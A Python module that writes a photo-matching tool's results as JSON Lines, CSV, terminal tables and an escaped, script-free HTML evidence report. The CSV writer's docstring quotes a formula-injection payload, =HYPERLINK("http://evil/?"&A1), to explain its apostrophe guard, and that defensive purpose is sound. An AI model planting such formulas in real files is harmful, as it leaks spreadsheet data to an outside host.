"""Turn :class:`~matcher.results.QueryResult` streams into things people read or keep.

* :func:`write_jsonl` - JSON Lines, one object per query photo (machine-readable contract);
* :func:`write_csv` - one row per match, for spreadsheets (formula-injection guarded);
* :func:`print_table` - a rich table on the terminal, printed as results arrive;
* :func:`write_html` - a self-contained HTML page with side-by-side thumbnails, meant
  as evidence to attach to a removal request;
* :func:`summarise` - the counts the CLI prints at the end.

Dataset metadata (titles, owners, URLs, licences...) is scraped from the web and is
untrusted: every writer here escapes it for its medium (HTML escaping, CSV formula
guard, terminal control characters and rich markup neutralised).
"""

from __future__ import annotations

import base64
import csv
import html
import io
import json
import os
import unicodedata
from collections import Counter
from datetime import datetime, timezone
from pathlib import Path
from typing import IO, Any, Iterable, Iterator
from urllib.parse import urlsplit

from PIL import Image
from rich import box
from rich.console import Console
from rich.table import Table
from rich.text import Text

from matcher.atomic import replacing
from matcher.outputs import HTML_GENERATOR
from matcher.imaging.images import load_image
from matcher.results import Match, QueryResult

__all__ = [
    "JSONL_FIELDS",
    "JSONL_MATCH_FIELDS",
    "CSV_COLUMNS",
    "write_jsonl",
    "write_csv",
    "print_table",
    "write_html",
    "summarise",
    "dataset_counts",
]

# --------------------------------------------------------------------------- JSON Lines

#: Keys of each JSON Lines object, in order. This is a stable contract: one object per
#: query photo, exactly ``QueryResult.to_json()``:
#:
#: ``query``   the photo's path as given on the command line (str);
#: ``hash``    its perceptual hash as hex (str), or null if it could not be read;
#: ``matches`` list of match objects (keys in :data:`JSONL_MATCH_FIELDS`, plus ``extra``
#:             and ``evidence`` objects when non-empty, and ``found_by`` when the search
#:             says how each match was found), possibly empty;
#: ``error``   null, or a short human reason why the photo could not be checked.
#:
#: A search given a Flickr identity (``--flickr-user``/``--nsid``) ends with one more object whose
#: ``query`` and ``hash`` are null: its ``matches`` are the items listed under that identity that no
#: photo matched (``found_by`` "identity", ``distance`` null, the identity and the item's status in
#: ``evidence``). The photos' matches then say ``found_by`` "content" or "both".
JSONL_FIELDS = ("query", "hash", "matches", "error")

#: Keys of each object in ``matches`` (``Match.to_json()``); ``distance`` is the Hamming
#: distance between the two hashes, ``hash`` is the dataset item's hash.
JSONL_MATCH_FIELDS = (
    "dataset", "key", "url", "page_url", "path", "owner", "license", "title",
    "width", "height", "hash", "distance", "id",
)

# Characters that str.splitlines() (and some JSON Lines readers) treat as line breaks but
# json.dumps(ensure_ascii=False) leaves raw inside strings. Escaping them keeps exactly
# one record per physical line and decodes to the same value.
_JSONL_LINE_BREAKS = {"\u2028": "\\u2028", "\u2029": "\\u2029", "\x85": "\\u0085"}


def _json_default(obj: Any) -> Any:
    """Last resort for values json cannot encode (numpy scalars in evidence, paths...)."""
    item = getattr(obj, "item", None)  # numpy scalar
    if callable(item) and getattr(obj, "shape", None) == ():
        return item()
    tolist = getattr(obj, "tolist", None)  # numpy array
    if callable(tolist):
        return tolist()
    if isinstance(obj, (set, frozenset)):
        return sorted(obj, key=str)
    if isinstance(obj, (bytes, bytearray, memoryview)):
        return bytes(obj).hex()
    return str(obj)


def _dumps(obj: Any, **kw: Any) -> str:
    return json.dumps(obj, ensure_ascii=False, default=_json_default, **kw)


def write_jsonl(results: Iterable[QueryResult], fp: IO[str]) -> None:
    """Write one JSON object per query photo per line (see :data:`JSONL_FIELDS`).

    Each line is ``json.dumps(result.to_json(), ensure_ascii=False)`` (U+2028, U+2029 and
    U+0085 are written as ``\\u`` escapes so no record spans two lines). ``fp`` is flushed
    after every line, so a consumer sees each result as soon as it is known.
    """
    for r in results:
        line = _dumps(r.to_json())
        for raw, esc in _JSONL_LINE_BREAKS.items():
            if raw in line:
                line = line.replace(raw, esc)
        fp.write(line + "\n")
        fp.flush()


# --------------------------------------------------------------------------- CSV

#: Columns of :func:`write_csv`, in order. One row per match; ``error`` is filled (and the
#: match columns empty) on the single row written for a photo that could not be checked.
CSV_COLUMNS = (
    "query", "query_hash", "dataset", "key", "distance", "found_by", "url", "page_url", "path",
    "owner", "license", "title", "width", "height", "item_hash", "error",
)

#: What stands for the query of the items found by Flickr identity only (CSV, table).
IDENTITY_QUERY = "(identity)"

_FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def _csv_cell(value: Any) -> Any:
    """None -> ''; text starting like a spreadsheet formula gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, (int, float)):
        return value
    if not isinstance(value, str):
        value = str(value)
    if value.startswith(_FORMULA_PREFIXES):
        return "'" + value
    return value


def write_csv(results: Iterable[QueryResult], fp: IO[str]) -> None:
    """Write a header (:data:`CSV_COLUMNS`) then one row per match.

    A photo without matches writes no row; a photo that could not be checked writes one
    row with ``query``, ``query_hash`` and ``error`` filled. ``found_by`` says how a match was
    found (content, identity, both; empty when the search did not say); the items found by Flickr
    identity only have ``query`` "(identity)" and no distance.

    Formula injection: dataset metadata is untrusted, and a cell such as
    ``=HYPERLINK("http://evil/?"&A1)`` would run as a formula when the CSV is opened in a
    spreadsheet. Every text cell that starts with ``=``, ``+``, ``-``, ``@``, tab or
    carriage return is therefore written with a leading apostrophe (``'=HYPERLINK...``),
    which spreadsheets show as text. Numbers (distance, width, height) are written as is.
    Strip a leading ``'`` from such cells if you read the CSV back programmatically, or
    use :func:`write_jsonl`, which is not altered.

    Open files with ``newline=""`` (the csv module writes ``\\r\\n`` line ends). ``fp`` is
    flushed after each photo's rows.
    """
    w = csv.writer(fp)
    w.writerow(CSV_COLUMNS)
    fp.flush()
    for r in results:
        for m in r.matches:
            it = m.item
            w.writerow([
                _csv_cell(v) for v in (
                    r.query if r.query is not None else IDENTITY_QUERY, r.hash, it.dataset, it.key, m.distance,
                    m.found_by, it.url, it.page_url,
                    it.path, it.owner, it.license, it.title, it.width, it.height, it.hash, None,
                )
            ])
        if r.error is not None:
            row = [""] * len(CSV_COLUMNS)
            row[0] = _csv_cell(r.query)
            row[1] = _csv_cell(r.hash)
            row[-1] = _csv_cell(r.error)
            w.writerow(row)
        if r.matches or r.error is not None:
            fp.flush()


# --------------------------------------------------------------------------- terminal

# Bidirectional embedding/override/isolate controls: they can make text display in a
# different order than it is stored (e.g. disguise a file name or URL).
_BIDI_CONTROLS = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def _visible(s: Any) -> str:
    """Text safe to print on a terminal: control characters shown as escapes."""
    if s is None:
        return ""
    s = str(s)
    if s.isprintable():
        return s
    out = []
    for ch in s:
        if ch == " " or (unicodedata.category(ch) not in ("Cc", "Cs") and ch not in _BIDI_CONTROLS
                         and ch not in "\u2028\u2029"):
            out.append(ch)
        else:
            o = ord(ch)
            out.append(f"\\x{o:02x}" if o < 0x100 else f"\\u{o:04x}")
    return "".join(out)


def _name(query: str) -> str:
    return Path(query).name or query


def _sorted_matches(matches: list[Match]) -> list[Match]:
    # stable: ties keep engine order; items found by identity only (no distance) last
    return sorted(matches, key=lambda m: (m.distance is None, m.distance or 0))


def _by_dataset(matches: list[Match]) -> list[tuple[str, list[Match]]]:
    """A photo's matches grouped by dataset: the dataset with the nearest match first (then by name),
    nearest first within each."""
    groups: dict[str, list[Match]] = {}
    for m in _sorted_matches(matches):
        groups.setdefault(m.item.dataset, []).append(m)
    return sorted(groups.items(), key=lambda g: (g[1][0].distance is None, g[1][0].distance or 0, g[0]))


def dataset_counts(results: Iterable[QueryResult]) -> dict[str, dict[str, int]]:
    """``{dataset: {"matches": n, "photos": photos with at least one match in it}}``, most matches first."""
    out: dict[str, dict[str, int]] = {}
    for r in results:
        seen = set()
        for m in r.matches:
            d = out.setdefault(m.item.dataset, {"matches": 0, "photos": 0})
            d["matches"] += 1
            if m.item.dataset not in seen:
                seen.add(m.item.dataset)
                d["photos"] += 1
    return dict(sorted(out.items(), key=lambda kv: (-kv[1]["matches"], kv[0])))


def _plural(n: int, word: str) -> str:
    return f"{n:,} {word}{'' if n == 1 else ('es' if word.endswith('h') else 's')}"


def _match_table(show_header: bool, wide: bool = True, found_by: bool = False) -> Table:
    # Fixed ratios + expand: every per-query table gets the same column widths, so the
    # successive tables line up like one table while still printing as results arrive.
    t = Table(box=box.SIMPLE_HEAD, show_header=show_header,
              show_edge=False, expand=True, pad_edge=False, header_style="bold")
    t.add_column("photo", ratio=3, overflow="fold")
    t.add_column("match (dataset/key)", ratio=3, overflow="fold")
    t.add_column("dist", justify="right", ratio=1, min_width=4, no_wrap=True)
    if found_by:
        t.add_column("found by", width=8, no_wrap=True)
    if wide:  # narrow terminals: owner and licence are in --json/--csv/--html
        t.add_column("owner", ratio=2, overflow="fold")
        t.add_column("licence", ratio=2, overflow="fold")
    t.add_column("url", ratio=5, overflow="fold")
    return t


def print_table(results: Iterable[QueryResult], console: Console, *, show_unmatched: bool = False,
                found_by: bool = False) -> None:
    """Print matches as a table, one block per photo as soon as its result arrives.

    Columns: photo file name, dataset/key, distance, owner, licence, URL; a photo's matches are
    grouped by dataset (:func:`_by_dataset`). Photos that could not be read are printed in red
    with the reason. Photos without matches are not printed unless ``show_unmatched`` (the CLI
    prints the counts afterwards). After the last photo, one line gives the matches per dataset.
    All text is printed literally: rich markup and terminal control characters in metadata are inert.
    """
    header_done = False
    counts: dict[str, dict[str, int]] = {}
    for r in results:
        for ds, d in dataset_counts([r]).items():
            c = counts.setdefault(ds, {"matches": 0, "photos": 0})
            c["matches"] += d["matches"]
            c["photos"] += d["photos"]
        if r.error is not None:
            console.print(Text(f"✗ {_visible(r.query)}: {_visible(r.error)}", style="red"),
                          soft_wrap=True)
        if not r.matches:
            if show_unmatched and r.error is None:
                console.print(Text(f"  {_visible(_name(r.query))}: no match", style="dim"), soft_wrap=True)
            continue
        wide = console.width >= 120
        t = _match_table(show_header=not header_done, wide=wide, found_by=found_by)
        header_done = True
        for i, m in enumerate(m for _, group in _by_dataset(r.matches) for m in group):
            it = m.item
            cells = [
                Text(_visible(_name(r.query)) if i == 0 else "", style="bold"),
                Text(f"{_visible(it.dataset)}/{_visible(it.key)}"),
                Text(str(m.distance), style="green" if m.distance == 0 else ""),
            ]
            if found_by:  # a column of its own when the search joined identity with content
                cells.append(Text(_visible(m.found_by), style="bold" if m.found_by == "both" else ""))
            if wide:
                cells += [Text(_visible(it.owner)), Text(_visible(it.license))]
            cells.append(Text(_visible(it.url or it.page_url or it.path), style="cyan"))
            t.add_row(*cells)
        console.print(t)
    if counts:
        ranked = sorted(counts.items(), key=lambda kv: (-kv[1]["matches"], kv[0]))
        console.print(Text("matches by dataset: " + "; ".join(
            f"{_visible(ds)} {_plural(c['matches'], 'match')} ({_plural(c['photos'], 'photo')})" for ds, c in ranked),
            style="bold"), soft_wrap=True)


def print_identity(result: QueryResult, console: Console, who: str) -> None:
    """Print the items listed under ``who`` (a Flickr identity) that no photo matched: ``result`` is
    :meth:`matcher.provenance.identities.IdentityJoin.remainder`. Failed items (dead links: still listed) say why."""
    n = len(result.matches)
    if not n:
        console.print(Text(f"{_visible(who)}: no other item is listed under this identity", style="dim"),
                      soft_wrap=True)
        return
    console.print(Text(f"Listed under {_visible(who)} but not found among your photos "
                       f"({n:,} item{'' if n == 1 else 's'}):", style="bold"), soft_wrap=True)
    wide = console.width >= 120
    t = Table(box=box.SIMPLE_HEAD, show_edge=False, expand=True, pad_edge=False, header_style="bold")
    t.add_column("match (dataset/key)", ratio=3, overflow="fold")
    t.add_column("status", ratio=2, overflow="fold")
    if wide:
        t.add_column("owner", ratio=2, overflow="fold")
        t.add_column("licence", ratio=2, overflow="fold")
    t.add_column("url", ratio=5, overflow="fold")
    for m in result.matches:
        it = m.item
        status = "ok" if it.status == "ok" else f"failed: {it.error or 'unknown'}"
        cells = [Text(f"{_visible(it.dataset)}/{_visible(it.key)}"),
                 Text(_visible(status), style="" if it.status == "ok" else "yellow")]
        if wide:
            cells += [Text(_visible(it.owner)), Text(_visible(it.license))]
        cells.append(Text(_visible(it.url or it.page_url or it.path), style="cyan"))
        t.add_row(*cells)
    console.print(t)


# --------------------------------------------------------------------------- summary

def summarise(results: Iterable[QueryResult]) -> dict[str, Any]:
    """Counts for the CLI: ``{"photos", "with_matches", "matches", "errors", "by_dataset"}``.

    ``by_dataset`` maps each dataset name to its number of matches, most first. The items found
    by Flickr identity only (a result whose ``query`` is None) are not a photo: not counted.
    """
    photos = with_matches = matches = errors = 0
    by_dataset: Counter[str] = Counter()
    for r in results:
        if r.query is None:
            continue
        photos += 1
        if r.matches:
            with_matches += 1
            matches += len(r.matches)
            by_dataset.update(m.item.dataset for m in r.matches)
        if r.error is not None:
            errors += 1
    return {
        "photos": photos,
        "with_matches": with_matches,
        "matches": matches,
        "errors": errors,
        "by_dataset": dict(sorted(by_dataset.items(), key=lambda kv: (-kv[1], kv[0]))),
    }


# --------------------------------------------------------------------------- HTML

def _h(value: Any) -> str:
    """HTML-escape anything (quotes too); drop characters HTML does not allow."""
    if value is None:
        return ""
    s = str(value)
    if not s.isprintable():
        s = "".join(
            ch if ch in "\t\n " or unicodedata.category(ch) not in ("Cc", "Cs") else "\ufffd" for ch in s
        )
    return html.escape(s, quote=True)


def _http_url(url: Any) -> str | None:
    """``url`` if it is an absolute http(s) URL that is safe to put in href/src, else None."""
    if not isinstance(url, str) or not url:
        return None
    url = url.strip()
    if url.replace(" ", "%20") != url:
        url = url.replace(" ", "%20")  # scraped URLs sometimes carry raw spaces
    if any(ord(c) < 0x21 or 0x7F <= ord(c) <= 0x9F for c in url):
        return None  # browsers ignore tabs/newlines inside schemes; refuse rather than guess
    try:
        parts = urlsplit(url)
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https") or not parts.netloc:
        return None
    return url


def _thumbnail(path: Any, size: int) -> tuple[str | None, str | None, tuple[int, int] | None]:
    """``(data_uri, None, (w, h))`` for a readable local image, else ``(None, reason, None)``."""
    if not path:
        return None, "no local copy", None
    try:
        loaded = load_image(os.fspath(path), draft=("RGB", size))
        im = loaded.image
        im.thumbnail((size, size), Image.Resampling.LANCZOS, reducing_gap=3.0)
        if im.mode not in ("L", "RGB"):
            im = im.convert("RGB")
        buf = io.BytesIO()
        im.save(buf, "JPEG", quality=82)
    except Exception as e:  # noqa: BLE001 - a thumbnail must never break the report
        reason = getattr(e, "reason", None) or str(e).strip() or type(e).__name__
        return None, reason, None
    uri = "data:image/jpeg;base64," + base64.b64encode(buf.getvalue()).decode("ascii")
    return uri, None, im.size


class _Thumbs:
    """Thumbnail cache for one report (the same file may appear in several places)."""

    def __init__(self, size: int):
        self.size = size
        self._cache: dict[str, tuple[str | None, str | None, tuple[int, int] | None]] = {}

    def get(self, path: Any):
        if not path:
            return _thumbnail(None, self.size)
        key = os.fspath(path)
        if key not in self._cache:
            self._cache[key] = _thumbnail(key, self.size)
        return self._cache[key]

    def img(self, path: Any, alt: str) -> tuple[str | None, str | None]:
        """``(<img> html, None)`` or ``(None, reason)``."""
        uri, reason, wh = self.get(path)
        if uri is None:
            return None, reason
        w, h = wh
        return f'<img class="thumb" src="{uri}" width="{w}" height="{h}" alt="{_h(alt)}">', None


def _placeholder(reason: str | None) -> str:
    detail = f'<span class="why">{_h(reason)}</span>' if reason else ""
    return f'<div class="thumb placeholder"><span>no thumbnail</span>{detail}</div>'


def _link(url: Any) -> str:
    """A link for http(s) URLs; any other value is shown as inert text."""
    safe = _http_url(url)
    if safe is not None:
        return f'<a href="{_h(safe)}" rel="noopener noreferrer" target="_blank">{_h(url)}</a>'
    return f'<code class="inert">{_h(url)}</code>'


def _value(v: Any) -> str:
    if isinstance(v, (dict, list, tuple)):
        return f"<code>{_h(_dumps(v, sort_keys=True))}</code>"
    return _h(v)


_CSS = """
:root { --thumb: %(size)dpx; color-scheme: light; }
* { box-sizing: border-box; }
body { font: 14px/1.45 system-ui, -apple-system, "Segoe UI", Roboto, sans-serif; color: #1d1d1f;
       background: #f5f5f7; margin: 0; padding: 24px; }
main { max-width: 1200px; margin: 0 auto; }
h1 { font-size: 22px; margin: 0 0 4px; }
h2 { font-size: 17px; margin: 0 0 2px; overflow-wrap: anywhere; }
.sub { color: #6e6e73; font-size: 12px; overflow-wrap: anywhere; }
.note { color: #6e6e73; font-size: 12px; max-width: 80ch; }
.card { background: #fff; border-radius: 10px; box-shadow: 0 1px 3px rgba(0,0,0,.12);
        padding: 16px; margin: 16px 0; }
table.kv { border-collapse: collapse; }
table.kv th { text-align: left; font-weight: 600; padding: 2px 16px 2px 0; vertical-align: top;
              white-space: nowrap; }
table.kv td { padding: 2px 0; overflow-wrap: anywhere; unicode-bidi: isolate; }
details { margin: 8px 0; }
summary { cursor: pointer; font-weight: 600; }
ul.compact { columns: 3 220px; margin: 8px 0; padding-left: 18px; font-size: 12px; }
ul.compact li, ul.errors li { overflow-wrap: anywhere; unicode-bidi: isolate; }
.err { color: #b00020; }
.photo { display: flex; gap: 20px; align-items: flex-start; flex-wrap: wrap; }
.query { flex: 0 0 auto; width: calc(var(--thumb) + 8px); }
.matches { flex: 1 1 400px; display: flex; flex-direction: column; gap: 12px; min-width: 0; }
.match { display: flex; gap: 14px; align-items: flex-start; border-top: 1px solid #e5e5ea;
         padding-top: 12px; }
.match:first-child, h3.dataset + .match { border-top: 0; padding-top: 0; }
h3.dataset { font-size: 14px; margin: 8px 0 0; overflow-wrap: anywhere; }
h3.dataset:first-child { margin-top: 0; }
.match table.kv { flex: 1 1 auto; min-width: 0; font-size: 13px; }
figure { margin: 0; }
figcaption { font-size: 11px; color: #6e6e73; margin-top: 4px; overflow-wrap: anywhere; }
.thumb { display: block; max-width: var(--thumb); max-height: var(--thumb); border-radius: 4px;
         background: #e5e5ea; }
img.thumb.remote { width: var(--thumb); height: var(--thumb); object-fit: contain; }
.placeholder { width: var(--thumb); height: var(--thumb); display: flex; flex-direction: column;
               align-items: center; justify-content: center; text-align: center; color: #6e6e73;
               background: #d8d8dc; padding: 8px; font-size: 12px; }
.placeholder .why { font-size: 10px; margin-top: 6px; overflow-wrap: anywhere; }
.dist { font-weight: 700; }
.dist0 { color: #1b7f3b; }
code { font: 12px ui-monospace, SFMono-Regular, Menlo, Consolas, monospace; overflow-wrap: anywhere; }
a { color: #0646ad; overflow-wrap: anywhere; }
@media print { body { background: #fff; padding: 0; } .card { box-shadow: none; border: 1px solid #ccc;
               break-inside: avoid; } }
"""


def _kv_table(rows: Iterable[tuple[str, str]]) -> str:
    body = "".join(f"<tr><th>{_h(k)}</th><td>{v}</td></tr>" for k, v in rows)
    return f'<table class="kv">{body}</table>'


def _summary_html(results: list[QueryResult], title: str, index_info: dict | None, generated: str) -> Iterator[str]:
    identity = [r for r in results if r.query is None]  # the items found by Flickr identity only
    results = [r for r in results if r.query is not None]
    s = summarise(results)
    yield f"<h1>{_h(title)}</h1>"
    yield f'<div class="sub">generated {_h(generated)}</div>'
    yield '<section class="card"><h2>Summary</h2>'
    rows = [
        ("photos checked", f"{s['photos']:,}"),
        ("photos with matches", f"{s['with_matches']:,}"),
        ("matches", f"{s['matches']:,}"),
        ("unreadable photos", f"{s['errors']:,}"),
    ]
    per_dataset = dataset_counts(results)
    rows += [(f"matches in {name}", f"{n:,} ({_plural(per_dataset[name]['photos'], 'photo')})")
             for name, n in s["by_dataset"].items()]
    if identity:
        rows.append(("listed under your Flickr identity, not found among your photos",
                     f"{sum(len(r.matches) for r in identity):,}"))
    rows.append(("generated", _h(generated)))
    for k, v in (index_info or {}).items():
        rows.append((str(k), _value(v)))
    yield _kv_table(rows)
    errors = [r for r in results if r.error is not None]
    if errors:
        yield f'<details><summary class="err">Photos that could not be checked ({len(errors):,})</summary><ul class="errors">'
        for r in errors:
            yield f"<li><code>{_h(r.query)}</code>: {_h(r.error)}</li>"
        yield "</ul></details>"
    unmatched = [r for r in results if not r.matches and r.error is None]
    if unmatched:
        yield f"<details><summary>Photos without matches ({len(unmatched):,})</summary><ul class=\"compact\">"
        for r in unmatched:
            yield f"<li>{_h(r.query)}</li>"
        yield "</ul></details>"
    yield (
        '<p class="note">Each photo below is shown beside the copies found in the dataset. '
        "The distance is the number of differing bits between the two perceptual hashes: "
        "0 means the images look the same to the hash, small values mean near-duplicates "
        "(resized, recompressed, lightly edited). Where no local copy of a dataset image was "
        "available, its thumbnail is loaded from the dataset's URL: opening this report then "
        "contacts that server (without sending a referrer), and the image may no longer be online.</p>"
    )
    yield "</section>"


def _match_html(m: Match, thumbs: _Thumbs) -> str:
    it = m.item
    img, reason = thumbs.img(it.path, f"dataset copy: {it.dataset}/{it.key}")
    if img is None:
        remote = _http_url(it.url)
        if remote is not None:
            img = (f'<img class="thumb remote" src="{_h(remote)}" referrerpolicy="no-referrer" loading="lazy" '
                   f'alt="{_h(f"remote copy of {it.dataset}/{it.key} (may be offline)")}">')
            caption = "dataset copy (remote)"
        else:
            if it.path:
                why = f"local copy unreadable: {reason}"
            elif it.url:
                why = "no local copy; URL is not http(s)"
            else:
                why = "no local copy or URL"
            img = _placeholder(why)
            caption = "dataset copy"
    else:
        caption = "dataset copy"
    cls = "dist dist0" if m.distance == 0 else "dist"
    rows: list[tuple[str, str]] = [("distance", f'<span class="{cls}">{_h(m.distance)}</span>')] if m.distance is not None else []
    if m.found_by:
        rows.append(("found by", _h(m.found_by)))
    rows += [
        ("dataset", _h(it.dataset)),
        ("key", f"<code>{_h(it.key)}</code>"),
    ]
    if it.url:
        rows.append(("URL", _link(it.url)))
    if it.page_url:
        rows.append(("page URL", _link(it.page_url)))
    if it.owner:
        rows.append(("owner", _h(it.owner)))
    if it.license:
        rows.append(("licence", _h(it.license)))
    if it.title:
        rows.append(("title", _h(it.title)))
    if it.width and it.height:
        rows.append(("size", f"{_h(it.width)} × {_h(it.height)}"))
    if it.path:
        rows.append(("local copy", f"<code>{_h(it.path)}</code>"))
    if it.hash:
        rows.append(("hash", f"<code>{_h(it.hash)}</code>"))
    if m.evidence:
        rows.append(("evidence", _kv_table((str(k), _value(v)) for k, v in m.evidence.items())))
    return (
        f'<div class="match"><figure>{img}<figcaption>{_h(caption)}</figcaption></figure>'
        f"{_kv_table(rows)}</div>"
    )


def _photo_html(r: QueryResult, thumbs: _Thumbs, n: int) -> str:
    img, reason = thumbs.img(r.query, f"your photo: {_name(r.query)}")
    if img is None:
        img = _placeholder(reason)
    count = len(r.matches)
    head = (
        f'<h2 id="photo-{n}">{_h(_name(r.query))}</h2>'
        f'<div class="sub">{_h(r.query)}'
        + (f" · hash <code>{_h(r.hash)}</code>" if r.hash else "")
        + f" · {count} match{'es' if count != 1 else ''}</div>"
    )
    matches = "".join(
        f'<h3 class="dataset">{_h(ds)} <span class="sub">· {_plural(len(group), "match")}</span></h3>'
        + "".join(_match_html(m, thumbs) for m in group)
        for ds, group in _by_dataset(r.matches))
    return (
        f'<section class="card">{head}<div class="photo">'
        f'<figure class="query">{img}<figcaption>your photo</figcaption></figure>'
        f'<div class="matches">{matches}</div></div></section>'
    )


def _identity_html(r: QueryResult, thumbs: _Thumbs) -> str:
    """The items found by Flickr identity only, in a section of their own."""
    n = len(r.matches)
    head = (f'<h2 id="identity">Listed under your Flickr identity, not found among your photos</h2>'
            f'<div class="sub">{n:,} item{"" if n == 1 else "s"} · found by identity (the dataset lists the photo\'s '
            "Flickr id or owner), not by comparing pictures · a failed item is a link that no longer worked when "
            "the dataset was indexed: the photo is listed all the same</div>")
    matches = "".join(_match_html(m, thumbs) for m in r.matches)
    return f'<section class="card">{head}<div class="photo"><div class="matches">{matches}</div></div></section>'


def _html_chunks(results: list[QueryResult], title: str, index_info: dict | None, thumb_size: int) -> Iterator[str]:
    generated = datetime.now(timezone.utc).strftime("%Y-%m-%d %H:%M:%S UTC")
    yield (
        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n"
        '<meta name="viewport" content="width=device-width, initial-scale=1">\n'
        '<meta name="referrer" content="no-referrer">\n'
        f"{HTML_GENERATOR}\n"
        # Defence in depth: no scripts, no remote styles/fonts; images only inline or http(s).
        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; '
        "img-src data: http: https:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'\">\n"
        f"<title>{_h(title)}</title>\n<style>{_CSS % {'size': thumb_size}}</style>\n</head>\n<body>\n<main>\n"
    )
    yield from _summary_html(results, title, index_info, generated)
    thumbs = _Thumbs(thumb_size)
    for n, r in enumerate(results, 1):
        if r.query is None:
            yield _identity_html(r, thumbs) + "\n"
        elif r.matches:
            yield _photo_html(r, thumbs, n) + "\n"
    yield "</main>\n</body>\n</html>\n"


def write_html(
    results: list[QueryResult],
    path: str | os.PathLike,
    *,
    title: str = "matcher report",
    index_info: dict | None = None,
    thumb_size: int = 160,
) -> None:
    """Write a self-contained HTML report to ``path``, atomically.

    A summary (photos checked, with matches, matches per dataset, errors, generation
    time, ``index_info``), then each photo with matches: its thumbnail beside every
    dataset copy, with distance, dataset, key, URL, page URL, owner, licence, title and
    evidence. Thumbnails are JPEG data URIs made from the local files; a dataset copy with
    no readable local file falls back to its http(s) URL (``referrerpolicy="no-referrer"``),
    else a "no thumbnail" box with the reason. Every value is HTML-escaped; only http(s)
    URLs become links or image sources. No scripts; the page carries a CSP forbidding them.

    The page is written to a temporary file next to ``path`` and renamed over it, so
    ``path`` is either the old file or the complete new one, never half written.
    """
    if not isinstance(thumb_size, int) or thumb_size < 16:
        raise ValueError(f"thumb_size must be an integer >= 16, not {thumb_size!r}")
    results = list(results)
    # a temporary file created exclusively (never someone else's), renamed over ``path`` once whole
    with replacing(path, "w", encoding="utf-8", newline="\n") as f:
        for chunk in _html_chunks(results, title, index_info, thumb_size):
            f.write(chunk)
